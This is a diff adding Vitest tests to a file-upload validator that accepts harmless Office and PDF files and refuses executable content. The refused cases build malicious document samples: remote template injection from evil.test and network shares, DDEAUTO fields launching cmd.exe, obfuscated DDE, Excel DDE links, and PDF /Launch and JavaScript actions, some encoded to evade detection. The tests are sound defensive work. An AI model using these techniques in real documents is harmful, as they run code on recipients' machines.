@@ -1,6 +1,7 @@
 import { once } from 'node:events'
 import { open, writeFile } from 'node:fs/promises'
 import { join } from 'node:path'
+import { deflateSync } from 'node:zlib'
 import { acceptedFiles } from '@officine/api/constants'
 import PDFDocument from 'pdfkit'
 import { describe, expect, test } from 'vitest'
@@ -270,6 +271,67 @@ describe('a file that is also another format is refused', () => {
   })
 })
 
+const relation = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
+const related = (type: string, target: string) =>
+  office('docx', [
+    {
+      name: 'word/_rels/settings.xml.rels',
+      content: `<Relationships><Relationship Id="r1" Type="${relation}/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
+    },
+  ])
+const field = (xml: string) =>
+  office('docx', [
+    { name: 'word/header1.xml', content: `<w:hdr><w:fldChar w:fldCharType="begin"/>${xml}</w:hdr>` },
+  ])
+
+/** A compound file with such bytes in its last sector. */
+function withContent(file: Buffer, content: Buffer): Buffer {
+  const changed = Buffer.from(file)
+  content.copy(changed, file.length - 512)
+  return changed
+}
+
+function objectStream(object: string): string {
+  const packed = deflateSync(Buffer.from(`8 0 ${object}`)).toString('latin1')
+  return `7 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >> stream\n${packed}\nendstream endobj\n`
+}
+
+describe('content that starts nothing is accepted', () => {
+  const cases: readonly (readonly [string, Extension, Buffer])[] = [
+    [
+      'a template of the sender’s own disk',
+      'docx',
+      related('attachedTemplate', 'file:///C:\\Modèles\\lettre.dotx'),
+    ],
+    ['a link to the web', 'docx', related('hyperlink', 'https://exemple.ca/?a=1&amp;b=2')],
+    ['a picture', 'docx', related('image', 'media/image1.png')],
+    [
+      'fields',
+      'docx',
+      field(
+        '<w:instrText> PAGE </w:instrText><w:fldChar w:fldCharType="begin"/><w:instrText>DATE</w:instrText>',
+      ),
+    ],
+    [
+      'a form of Word 97 with text about DDE',
+      'doc',
+      withContent(compound(['WordDocument', 'ObjectPool']), Buffer.from('DDE', 'utf16le')),
+    ],
+    ['a PDF that opens on a page', 'pdf', pdf('9 0 obj << /OpenAction [1 0 R /Fit] >> endobj\n')],
+    [
+      'a form whose fields have scripts',
+      'pdf',
+      pdf(
+        '9 0 obj << /OpenAction 8 0 R >> endobj\n8 0 obj [1 0 R /Fit] endobj\n6 0 obj << /AA << /K << /S /JavaScript /JS (n) >> >> >> endobj\n',
+      ),
+    ],
+    ['objects in a stream', 'pdf', pdf(objectStream('<< /Type /Page >>'))],
+  ]
+  test.each(cases)('%s', async (_, extension, content) => {
+    expect(await outcome(content, extension)).toEqual(content)
+  })
+})
+
 describe('executable content is refused', () => {
   const macroType = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
   const macroMain = '<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
@@ -286,6 +348,88 @@ describe('executable content is refused', () => {
     ['ActiveX controls', 'docx', office('docx', [{ name: 'word/activeX/activeX1.bin', content: 'x' }])],
     ['macros of Word 97', 'doc', compound(['WordDocument', 'Macros', 'VBA', '_VBA_PROJECT'])],
     ['macros of Excel 97', 'xls', compound(['Workbook', '_VBA_PROJECT_CUR'])],
+    ['a template from the web', 'docx', related('attachedTemplate', 'https://evil.test/a.dotm')],
+    ['a template by a code', 'docx', related('attachedTemplate', '&#104;ttps://evil.test/a.dotm')],
+    ['a template of another machine', 'docx', related('attachedTemplate', '\\\\evil\\share\\a.dotm')],
+    ['a template by a file address', 'docx', related('attachedTemplate', 'file://evil/share/a.dotm')],
+    ['a frame from the web', 'docx', related('frame', 'http://evil.test/')],
+    ['an OLE object', 'docx', related('oleObject', 'embeddings/oleObject1.dat')],
+    ['an embedded OLE object', 'docx', office('docx', [{ name: 'word/embeddings/o1.bin', content: 'x' }])],
+    [
+      'a field that starts a program',
+      'docx',
+      field('<w:instrText> DDEAUTO c:\\cmd.exe "/k calc"</w:instrText>'),
+    ],
+    [
+      'such a field in pieces',
+      'docx',
+      field('<w:instrText>DD</w:instrText></w:r><w:r><w:instrText>E cmd</w:instrText>'),
+    ],
+    ['such a field by codes', 'docx', field('<w:instrText>QUOTE 68 68 69 65 85</w:instrText>')],
+    ['a simple field', 'docx', field('<w:fldSimple w:instr="&#68;DE cmd x"/>')],
+    [
+      'a link that starts a program',
+      'xlsx',
+      office('xlsx', [
+        {
+          name: 'xl/externalLinks/externalLink1.xml',
+          content: '<externalLink><ddeLink ddeService="cmd"/></externalLink>',
+        },
+      ]),
+    ],
+    [
+      'an OLE object of Word 97',
+      'doc',
+      compound(['WordDocument', 'ObjectPool', '_1234567890', '\u0001Ole10Native']),
+    ],
+    ['an OLE object of Excel 97', 'xls', compound(['Workbook', 'MBD0012AB34'])],
+    [
+      'a field of Word 97',
+      'doc',
+      withContent(compound(['WordDocument']), Buffer.from('\u0013 DDEAUTO cmd', 'utf16le')),
+    ],
+    [
+      'a link of Excel 97',
+      'xls',
+      withContent(
+        compound(['Workbook']),
+        Buffer.from("\xae\u0001\u0010\0\0\0\u0008\0\0cmd\u0003' /C calc'", 'latin1'),
+      ),
+    ],
+    [
+      'a template of Word 97',
+      'doc',
+      withContent(compound(['WordDocument']), Buffer.from('https://evil.test/a.dotm', 'utf16le')),
+    ],
+    ['a PDF that starts a program', 'pdf', pdf('9 0 obj << /S /Launch /F (cmd.exe) >> endobj\n')],
+    ['such a PDF by a code', 'pdf', pdf('9 0 obj << /S /L#61unch /F (cmd.exe) >> endobj\n')],
+    ['such a PDF in an object stream', 'pdf', pdf(objectStream('<< /S /Launch /F (cmd.exe) >>'))],
+    [
+      'an object stream that can’t be read',
+      'pdf',
+      pdf('9 0 obj << /Type /ObjStm /Filter /LZWDecode >> stream\nxyz\nendstream\n'),
+    ],
+    ['a PDF with a file', 'pdf', pdf('9 0 obj << /Type /EmbeddedFile >> endobj\n')],
+    [
+      'a PDF with scripts of the document',
+      'pdf',
+      pdf('9 0 obj << /Names << /JavaScript 8 0 R >> >> endobj\n'),
+    ],
+    [
+      'a script that runs when it is opened',
+      'pdf',
+      pdf('9 0 obj << /OpenAction << /S /JavaScript /JS (app) >> >> endobj\n'),
+    ],
+    [
+      'such a script elsewhere',
+      'pdf',
+      pdf('9 0 obj << /OpenAction 8 0 R >> endobj\n8 0 obj << /S /JavaScript /JS (app) >> endobj\n'),
+    ],
+    [
+      'such a script in an object stream',
+      'pdf',
+      pdf(`9 0 obj << /OpenAction 8 0 R >> endobj\n${objectStream('<< /S /JavaScript /JS (app) >>')}`),
+    ],
   ]
   test.each(cases)('%s', async (_, extension, content) => {
     expect(await outcome(content, extension)).toBe('fileUnsafe')
